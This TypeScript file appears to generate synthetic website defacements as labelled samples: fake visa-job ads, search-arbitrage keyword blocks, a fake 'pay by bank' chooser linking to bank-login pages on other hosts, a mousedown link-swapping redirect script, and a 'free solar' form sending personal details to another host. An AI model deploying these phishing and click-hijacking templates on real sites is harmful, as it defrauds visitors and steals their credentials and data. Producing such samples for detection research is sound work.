  const block = `<div class="${pick(rng, ["jobs-notice", "vacancy", "recruitment"])}" style="border:2px solid #005eb8;background:#f0f4f5;padding:14px;margin:12px 0"><h3>🩺 ${esc(h)}</h3><p>${esc(p(fee))}</p><ul><li>${pick(rng, ["£11.44 – £13.50 per hour", "£23,200 a year + accommodation", "Tier 2 / Skilled Worker visa"])}</li><li>${pick(rng, ["No IELTS required", "No experience needed", "Family can join you"])}</li><li>${pick(rng, ["Flight ticket provided", "Start within 8 weeks", "Care home in Manchester, Leeds, Birmingham"])}</li></ul><p><a href="${waLink(wa)}" style="background:#25d366;color:#fff;padding:6px 12px;text-decoration:none">${esc(cta)} ${esc(wa)}</a> · CV: <a href="mailto:${esc(mail)}">${esc(mail)}</a></p></div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

const searchTerms: Record<Lang, ReadonlyArray<string>> = {
  en: ["Dental implants for seniors", "Online MBA programs 2025", "Cheap car insurance quotes", "Walk-in bathtubs prices", "Reverse mortgage calculator", "Mesothelioma lawyer", "Top VPN deals", "Solar panel cost near me", "Best credit cards no annual fee", "Used SUVs for sale"],
  fr: ["Implants dentaires prix", "Assurance auto pas chère", "Rachat de crédit simulation", "Panneaux solaires aides", "Formation en ligne diplômante", "Mutuelle senior comparatif"],
  de: ["Zahnimplantate Kosten", "Kfz-Versicherung günstig", "Kredit ohne Schufa", "Solaranlage Förderung", "Treppenlift Preise", "Online-Studium berufsbegleitend"],
  es: ["Implantes dentales precio", "Seguro de coche barato", "Préstamos rápidos online", "Placas solares subvención", "Máster online", "Coches de segunda mano baratos"],
  nl: ["Tandimplantaat kosten", "Goedkope autoverzekering", "Lening zonder BKR", "Zonnepanelen subsidie", "Online opleiding", "Traplift prijzen"],
  pt: ["Implante dentário preço", "Seguro auto barato", "Empréstimo online rápido", "Energia solar preço", "Faculdade EAD", "Carros usados baratos"],
  it: ["Impianti dentali prezzi", "Assicurazione auto economica", "Prestiti online veloci", "Pannelli solari incentivi", "Master online", "Montascale prezzi"]
}

// "Related searches" blocks sold to search-feed arbitrage, recalled from memory of Google's AdSense for Search and "related search" units and of reports (about 2022–2024, in the ad-fraud press and Sucuri's and others' write-ups, with uncertain details) on arbitrage networks and hacked sites showing keyword buttons that lead to monetised search-results pages on other hosts: a row of lucrative keywords (insurance, implants, lawyers, loans) linking to a search feed with campaign parameters.
const relatedSearches = fresh12("'related searches' keyword buttons linking to a monetised search feed on another host", (page, rng) => {
  const host = pick(rng, [`${pick(rng, ["search", "find", "results", "discover", "topics"])}${pick(rng, ["now", "hub", "info", "quick", "zone"])}.${tld(rng)}`, `${pick(rng, ["search", "s"])}.${randomDomain(rng)}`, evil(rng, page)])
  const terms = sample(rng, siteOr(rng, page, searchTerms), between(rng, 3, 6))
  const chan = `${pick(rng, ["rsoc", "afs", "ch", "src"])}_${alnum(rng, 6)}`
  const btn = (t: string) => `<a href="https://${host}/${pick(rng, ["search", "serp", "results", "q"])}?q=${encodeURIComponent(t).replace(/%20/g, "+")}&amp;${pick(rng, ["channel", "src", "campaign"])}=${chan}&amp;${pick(rng, ["terms", "kw", "rkw"])}=${encodeURIComponent(t)}" style="display:block;border:1px solid #dadce0;border-radius:20px;padding:8px 14px;margin:6px 0;color:#1a0dab;text-decoration:none">${esc(t)} ›</a>`
  const block = `<div class="${pick(rng, ["related-searches", "rs-block", "search-topics"])}" style="max-width:520px;margin:14px 0;font-family:Arial,sans-serif"><div style="font-size:12px;color:#70757a">${pick(rng, ["Related searches", "Sponsored searches", "Recherches associées", "Ähnliche Suchanfragen", "Búsquedas relacionadas", "Gerelateerde zoekopdrachten", "Pesquisas relacionadas", "Ricerche correlate"])}</div>${terms.map(btn).join("")}</div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block))
})

const bankLists: Record<string, ReadonlyArray<string>> = {
  us: ["Chase", "Bank of America", "Wells Fargo", "Citi", "US Bank", "Capital One"], uk: ["Barclays", "HSBC", "Lloyds", "NatWest", "Santander", "Monzo"],
  fr: ["Crédit Agricole", "BNP Paribas", "Société Générale", "La Banque Postale", "Caisse d'Épargne", "LCL"], de: ["Sparkasse", "Volksbank", "Deutsche Bank", "Commerzbank", "ING", "Postbank"],
  es: ["Santander", "BBVA", "CaixaBank", "Sabadell", "Bankinter", "ING"], nl: ["ING", "Rabobank", "ABN AMRO", "SNS", "ASN Bank", "bunq"],
  au: ["CommBank", "Westpac", "ANZ", "NAB", "ING", "Bendigo Bank"], in: ["SBI", "HDFC Bank", "ICICI Bank", "Axis Bank", "Kotak", "PNB"],
  br: ["Itaú", "Bradesco", "Banco do Brasil", "Caixa", "Santander", "Nubank"], it: ["Intesa Sanpaolo", "UniCredit", "BPER", "Banco BPM", "Poste Italiane", "Fineco"],
  pt: ["Caixa Geral", "Millennium bcp", "Novo Banco", "Santander", "BPI", "Montepio"]
}
const bankPayWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Pay instantly by bank", "Card payments are temporarily unavailable. Choose your bank to pay securely with your online banking login.", "Secured by Open Banking"],
  fr: ["Payer directement par votre banque", "Le paiement par carte est momentanément indisponible. Choisissez votre banque pour payer avec vos identifiants de banque en ligne.", "Sécurisé par l'Open Banking"],
  de: ["Sofort per Bank bezahlen", "Kartenzahlung ist vorübergehend nicht möglich. Wählen Sie Ihre Bank und bezahlen Sie mit Ihren Online-Banking-Zugangsdaten.", "Gesichert durch Open Banking"],
  es: ["Pague al instante con su banco", "El pago con tarjeta no está disponible temporalmente. Elija su banco para pagar con sus claves de banca online.", "Protegido por Open Banking"],
  nl: ["Direct betalen via uw bank", "Betalen met kaart is tijdelijk niet mogelijk. Kies uw bank en betaal met uw inloggegevens voor internetbankieren.", "Beveiligd via Open Banking"],
  pt: ["Pague na hora pelo seu banco", "O pagamento com cartão está temporariamente indisponível. Escolha seu banco para pagar com o login do internet banking.", "Protegido por Open Banking"],
  it: ["Paga subito con la tua banca", "Il pagamento con carta è temporaneamente non disponibile. Scegli la tua banca e paga con le credenziali dell'home banking.", "Protetto da Open Banking"]
}

// Fake pay-by-bank choosers, recalled from memory of the Dutch Fraudehelpdesk's and police warnings (about 2020–2023) on fake iDEAL payment pages sent to sellers on Marktplaats that captured online-banking logins, of German consumer centres' warnings about fake "Sofortüberweisung" pages, and of UK Finance's notes on fake "pay by bank" screens: the page gains a bank chooser, in the site's name, whose bank buttons open login pages on another host.
const fakePayByBank = fresh12("'card payments unavailable, pay instantly by bank' chooser whose bank buttons open online-banking logins on another host", (page, rng) => {
  const [h, p, secured] = siteOr(rng, page, bankPayWords)
  const host = pick(rng, [`${pick(rng, ["ideal", "sofort", "paybybank", "openbanking", "instant-pay", "bankpay"])}-${pick(rng, ["checkout", "secure", "verify", "connect"])}.${tld(rng)}`, brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const ref = `${upper(rng, 2)}${digits(rng, 8)}`
  const banks = sample(rng, bankLists[page.site.locale.country] ?? bankLists.uk!, between(rng, 3, 6))
  const buttons = banks.map((b) => `<a href="https://${host}/${slug(b)}/login?ref=${ref}" style="display:inline-block;min-width:120px;border:1px solid #ccd;border-radius:6px;padding:10px;margin:4px;text-align:center;color:#123;text-decoration:none;background:#fff">🏦 ${esc(b)}</a>`).join("")
  const block = `<div class="${pick(rng, ["pay-by-bank", "checkout-bank", "bank-select"])}" style="border:1px solid #b0bec5;background:#f7f9fb;padding:14px;margin:12px 0;font-family:Arial,sans-serif"><h3>${esc(h)}</h3><p>${esc(p)}</p><div>${buttons}</div><p style="font-size:11px;color:#555">🔒 ${esc(secured)} · ${esc(brandName(page))} · Ref. ${ref}</p></div>`
  return splices(insert(noticeSpot(rng, page), block))
})

// Links swapped at the moment of the click, recalled from memory of the onmousedown link rewriting long used by search engines for click tracking (Google's rwt() in its results pages, 2000s–2010s), which researchers and phishing write-ups (about 2014–2022) noted lets the status bar show the real address on hover while the click goes elsewhere, and of malicious ad scripts doing the same: the page gains a script that, on mousedown, pointerdown or touchstart, points the clicked link at a redirector on another host and restores it a moment later.
const mousedownSwap = fresh12("script swapping each link's address on mousedown, so hovering still shows the real one", (page, rng) => {
  const go = `https://${pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["r", "go", "out", "click", "t"])}`
  const ev = pick(rng, ["mousedown", "pointerdown", "touchstart"])
  const only = pick(rng, ["", `if(a.host===location.host)return;`, `if(Math.random()>${pick(rng, ["0.3", "0.5", "0.2"])})return;`, `if(sessionStorage.getItem("_m"))return;sessionStorage.setItem("_m",1);`])
  const code = `document.addEventListener(${js(ev)},function(e){var a=e.target.closest&&e.target.closest("a[href]");if(!a||/^(#|javascript:|mailto:|tel:)/.test(a.getAttribute("href")))return;${only}var h=a.href;a.href=${js(go)}+"?u="+encodeURIComponent(h)+"&s="+encodeURIComponent(location.host);setTimeout(function(){a.href=h},${between(rng, 300, 1500)})},true);`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const solarWords: Record<Lang, readonly [string, string, string, string, string, string]> = {
  en: ["Free solar panels: government scheme extended", "Homeowners in your area can now get solar panels and a battery installed at no cost under the national energy scheme. Check your eligibility before the funding runs out.", "Postcode", "Full name", "Phone", "Check eligibility"],
  fr: ["Panneaux solaires gratuits : le dispositif de l'État prolongé", "Les propriétaires de votre secteur peuvent faire installer gratuitement panneaux et batterie grâce au dispositif national. Vérifiez votre éligibilité avant la fin des fonds.", "Code postal", "Nom complet", "Téléphone", "Vérifier mon éligibilité"],
  de: ["Kostenlose Solaranlage: staatliches Programm verlängert", "Eigentümer in Ihrer Region erhalten jetzt im Rahmen des nationalen Energieprogramms kostenlos Solarmodule und Speicher. Prüfen Sie Ihren Anspruch, bevor die Mittel ausgeschöpft sind.", "Postleitzahl", "Vollständiger Name", "Telefon", "Anspruch prüfen"],
  es: ["Placas solares gratis: se amplía el programa del Gobierno", "Los propietarios de su zona pueden instalar placas y batería sin coste con el programa nacional de energía. Compruebe si cumple los requisitos antes de que se agoten los fondos.", "Código postal", "Nombre completo", "Teléfono", "Comprobar requisitos"],
  nl: ["Gratis zonnepanelen: overheidsregeling verlengd", "Huiseigenaren in uw regio krijgen nu kosteloos zonnepanelen en een thuisbatterij via de landelijke energieregeling. Controleer of u in aanmerking komt voordat het budget op is.", "Postcode", "Volledige naam", "Telefoon", "Controleer of ik in aanmerking kom"],
  pt: ["Painéis solares grátis: programa do governo prorrogado", "Proprietários da sua região podem instalar painéis e bateria sem custo pelo programa nacional de energia. Verifique se tem direito antes que a verba acabe.", "CEP", "Nome completo", "Telefone", "Verificar se tenho direito"],
  it: ["Pannelli solari gratis: prorogato il programma statale", "I proprietari della tua zona possono installare pannelli e batteria gratis con il programma nazionale per l'energia. Verifica se hai diritto prima che finiscano i fondi.", "CAP", "Nome e cognome", "Telefono", "Verifica se ho diritto"]
}

// "Free solar panels" lead-generation scams, recalled from memory of UK Trading Standards' and Ofgem's warnings (about 2021–2024) about cold callers and ads using the ECO4 scheme's name to promise free panels and collect details, of the US Federal Trade Commission's warnings (about 2023) about "no-cost solar" and fake government programmes, and of Which? investigations of solar mis-selling: a banner with a form that sends the visitor's postcode, name and phone to a lead broker on another host.
const freeSolarLeads = fresh12("'free solar panels under the government scheme' eligibility form sending name, postcode and phone to a lead broker", (page, rng) => {
  const [h, p, pc, nm, ph, cta] = siteOr(rng, page, solarWords)
  const sink = `https://${pick(rng, [`${pick(rng, ["free", "gov", "eco", "green"])}${pick(rng, ["solar", "energy", "grant"])}${pick(rng, ["scheme", "check", "uk", "help"])}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["lead", "submit.php", "api/leads", "eligibility"])}`
  const block = `<div class="${pick(rng, ["solar-offer", "energy-grant", "sponsored"])}" style="border:2px solid #f9a825;background:#fffde7;padding:14px;margin:12px 0"><h3>☀️ ${esc(h)}</h3><p>${esc(p)}</p><form action="${sink}" method="post"><input name="postcode" placeholder="${esc(pc)}" size="10"> <input name="name" placeholder="${esc(nm)}"> <input type="tel" name="phone" placeholder="${esc(ph)}"> <input type="hidden" name="src" value="${esc(page.site.host)}"> <button type="submit" style="background:#f57f17;color:#fff;border:0;padding:6px 14px">${esc(cta)}</button></form><p style="font-size:10px;color:#777">${pick(rng, ["By submitting you agree to be contacted by our partners.", "ECO4 / Great British Insulation Scheme approved installers.", "Limited funding available."])}</p></div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

/** Every fresh12 defacement class, in a fixed order. */
export const fresh12Defacements: ReadonlyArray<ChangeClass> = [
  wasmLoader, pageCarrierLoader, indexOfListing, ownHostKit, appReplaced, iosProfile, inImageAds, trustedHostDocs,
  httpAuthPrompt, shareToUnlock, formMailRecipient, subdomainTakeover, voteTakeover, juryWarrant, hajjPackages, timeshareResale,
  studentLoanRelief, groceryAllowance, aviatorPredictor, notOnGamstop, kidneyDonors, illuminatiRecruitment, examExpo, kycUpdate,
  koreanSecurityModule, careVisaSponsorship, relatedSearches, fakePayByBank, mousedownSwap, freeSolarLeads
]
